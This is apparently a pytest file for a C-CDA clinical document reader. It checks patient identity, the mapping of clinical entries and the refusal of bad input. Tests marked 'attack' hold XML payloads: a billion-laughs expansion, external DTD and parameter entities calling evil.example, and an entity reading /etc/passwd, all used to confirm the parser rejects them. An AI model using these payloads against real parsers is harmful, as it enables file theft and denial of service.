"""C-CDA: whose it is, what its entries become, and what a hostile one does to nobody."""

import base64
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chartkeep.clinical.claim import Claim, Number
from chartkeep.clinical.reading import read_resource
from chartkeep.clinical.spelling import encode
from chartkeep.errors import BadInputError
from chartkeep.intake.ccda.document import Document, read_document
from chartkeep.intake.ccda.tree import DEEPEST
from tests.intake.ccda.any_document import ISSUERS, PATIENT, TOKYO, feed
from tests.intake.ccda.documents import (
    ALL,
    ALLERGY,
    ENCOUNTER,
    MEDICINE,
    PROBLEM,
    PROCEDURE,
    RESULT,
    VACCINE,
    VITALS,
    cda,
    section,
)


def document(body: str = "", **more: str) -> Document:
    return read_document(cda(body, **more), TOKYO)


def bodies(body: str) -> list[dict[str, Any]]:
    made = [each for _, each in document(body).resources(PATIENT)]
    for each in made:
        read_resource(encode(each))
    return made


def one(body: str) -> dict[str, Any]:
    (made,) = bodies(body)
    return made


def test_it_says_whose_it_is() -> None:
    expected = Claim(
        (Number("http://minato.example/mrn", "4711"),), ("Aiko Sato",), "1971-01-23"
    )  # fmt: skip
    assert document().claim("", ISSUERS) == expected
    (number,) = document(root="1.2.3").claim("", ISSUERS).numbers
    assert number.system == "urn:oid:1.2.3"


def test_about_two_people_or_nobody_it_is_refused() -> None:
    raw = cda()
    target = raw[raw.index(b"<recordTarget>") : raw.index(b"<custodian>")]
    for other in (raw.replace(target, target * 2), raw.replace(target, b"")):
        with pytest.raises(BadInputError):
            read_document(other, TOKYO).claim("", ISSUERS)


def test_it_says_what_and_of_when_it_is() -> None:
    found = document()
    assert (found.title, found.date) == ("Summary", "2026-11-22T06:00:00+09:00")
    assert found.kind["coding"][0]["code"] == "34133-9"
    assert found.custodian == "Minato"


def test_a_problem() -> None:
    made = one(PROBLEM)
    assert [each["code"] for each in made["code"]["coding"]] == ["195967001", "J45.9"]
    assert made["code"]["text"] == "Asthma since childhood"
    assert made["onsetDateTime"] == "2025-03-01"
    assert made["clinicalStatus"]["coding"][0]["code"] == "active"
    assert made["subject"]["reference"] == PATIENT


def test_a_problem_that_ended_or_never_was() -> None:
    ended = one(
        PROBLEM.replace('<low value="20250301"/>', '<low value="2025"/><high value="2026"/>')
    )
    assert ended["clinicalStatus"]["coding"][0]["code"] == "resolved"
    assert (ended["onsetDateTime"], ended["abatementDateTime"]) == ("2025", "2026")
    never = one(PROBLEM.replace("<observation ", '<observation negationInd="true" '))
    assert never["verificationStatus"]["coding"][0]["code"] == "refuted"
    assert "clinicalStatus" not in never


def test_an_allergy() -> None:
    made = one(ALLERGY)
    assert made["code"]["coding"][0]["display"] == "Penicillin G"
    assert made["reaction"][0]["manifestation"][0]["coding"][0]["display"] == "Hives"
    assert made["reaction"][0]["severity"] == "severe"


def test_no_known_allergy_is_no_allergy() -> None:
    made = one(ALLERGY.replace("<observation><id", '<observation negationInd="true"><id', 1))
    assert made["verificationStatus"]["coding"][0]["code"] == "refuted"


def test_a_medicine() -> None:
    made = one(MEDICINE)
    assert made["medicationCodeableConcept"]["coding"][0]["code"] == "745679"
    assert made["effectivePeriod"] == {"start": "2026-01-01"}
    (dose,) = made["dosage"]
    assert encode(dose["doseAndRate"][0]["doseQuantity"]["value"]) == b"1.0"
    assert encode(dose["timing"]["repeat"]) == b'{"frequency":1,"period":6,"periodUnit":"h"}'


def test_a_vaccination_and_one_that_was_refused() -> None:
    given_, refused = bodies(VACCINE)
    assert (given_["status"], given_["lotNumber"]) == ("completed", "L7")
    assert (refused["status"], refused["occurrenceString"]) == ("not-done", "unknown")


def test_results_keep_their_numbers_as_they_were_written() -> None:
    number, words = bodies(RESULT)
    assert encode(number["valueQuantity"]["value"]) == b"13.20"
    assert encode(number["referenceRange"][0]["high"]["value"]) == b"15.5"
    assert number["effectiveDateTime"] == "2026-11-01T08:00:00+09:00"
    assert words["valueString"] == "no growth"


def test_the_others() -> None:
    assert one(VITALS)["category"][0]["coding"][0]["code"] == "vital-signs"
    assert one(VITALS)["effectiveDateTime"] == "2026-11-01T08:00:00+09:00"
    assert one(PROCEDURE)["performedDateTime"] == "2010-11-05"
    assert (one(ENCOUNTER)["class"]["code"], one(ENCOUNTER)["status"]) == ("AMB", "finished")


def test_a_later_document_changes_the_same_entry_and_twins_of_one_id_are_two() -> None:
    names = [key for key, _ in document(ALL).resources(PATIENT)]
    later = read_document(cda(ALL).replace(b'extension="d1"', b'extension="d2"'), TOKYO)
    again = [key for key, _ in later.resources(PATIENT)]
    assert sum(a == b for a, b in zip(names, again, strict=True)) == len(names) - 1
    assert len(document(PROBLEM + PROBLEM).resources(PATIENT)) == 2


def test_sections_nobody_knows_are_left_to_the_document() -> None:
    assert not bodies(section("99999-9", "<entry><act/></entry>"))


def test_a_document_carries_its_file_and_broken_base64_is_refused() -> None:
    def carrying(data: str) -> Document:
        text = f'<text mediaType="application/pdf" representation="B64">{data}</text>'
        return document(f"<nonXMLBody>{text}</nonXMLBody>")

    carried = carrying(f" {base64.b64encode(b'%PDF-1').decode()}\n").embedded()
    assert carried is not None
    assert (carried.media_type, carried.raw) == ("application/pdf", b"%PDF-1")
    with pytest.raises(BadInputError):
        carrying("####").embedded()


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(9))
    + "]>"
)


@pytest.mark.attack
@pytest.mark.parametrize(
    "before",
    [
        LAUGHS, '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/">%a;]>',
    ],
    ids=["laughs", "dtd", "file", "parameter"],
)  # fmt: skip
def test_a_document_brings_no_dtd(before: str) -> None:
    with pytest.raises(BadInputError, match="DTD"):
        document(before=before)


@pytest.mark.attack
def test_what_is_nested_too_deeply_or_has_too_many_elements_is_refused() -> None:
    for body in ("<a>" * DEEPEST + "</a>" * DEEPEST, "<a/>" * 500_000):
        with pytest.raises(BadInputError, match="too many"):
            document(body)


@pytest.mark.attack
def test_thousands_of_entries_are_bounded() -> None:
    assert (
        len(document(PROCEDURE.replace('extension="c1"', "") * 6_000).resources(PATIENT)) == 5_000
    )


@given(st.data())
def test_whatever_is_changed_in_it_only_this_houses_errors_come(data: st.DataObject) -> None:
    raw = bytearray(cda(ALL))
    for _ in range(data.draw(st.integers(1, 12))):
        at = data.draw(st.integers(0, len(raw) - 1))
        raw[at : at + data.draw(st.integers(0, 9))] = data.draw(st.binary(max_size=9))
    feed(bytes(raw))


@pytest.mark.parametrize("raw", [b"", b"<a/>", b"\xff\xfe<", b"<ClinicalDocument/>", b"<a", b"{}"])
def test_what_is_no_document_is_refused(raw: bytes) -> None:
    with pytest.raises(BadInputError):
        read_document(raw, TOKYO)
